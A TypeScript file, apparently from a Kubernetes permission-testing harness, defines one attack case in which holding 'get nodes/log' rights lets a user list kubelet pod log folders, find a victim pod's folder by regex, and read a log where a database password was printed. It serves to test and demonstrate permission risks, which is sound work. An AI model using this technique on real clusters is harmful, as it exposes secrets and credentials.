import type { Attack } from "./attack.ts";
import { askKubelet, canaryIn, run, shell, VICTIM } from "./real.ts";
import { nodeOf } from "./stage.ts";

export const attacks: Attack[] = [
  {
    edge: "nodes-log-get",
    elsewhere: true,
    reads: true,
    onRealNode: true,
    how: "the node's file of what a container has printed, the Secret among it",
    rights: (stage) => [stage.everywhere("get", "nodes/log", nodeOf(stage).name)],
    arrange: async (stage) => {
      await run(stage, { containers: [shell("echo DB_PASSWORD=$PASSWORD")] }, { phase: "Succeeded" });
    },
    attack: async (stage) => {
      // The folders show: their names hold the uid of the pod, which the attacker does not know.
      const folders = await askKubelet(stage, "GET", "/logs/pods/");
      const [folder] = new RegExp(`${stage.namespace}_${VICTIM}_[0-9a-f-]{36}`).exec(folders) ?? [];
      return canaryIn(stage, await askKubelet(stage, "GET", `/logs/pods/${String(folder)}/main/0.log`));
    },
  },
];
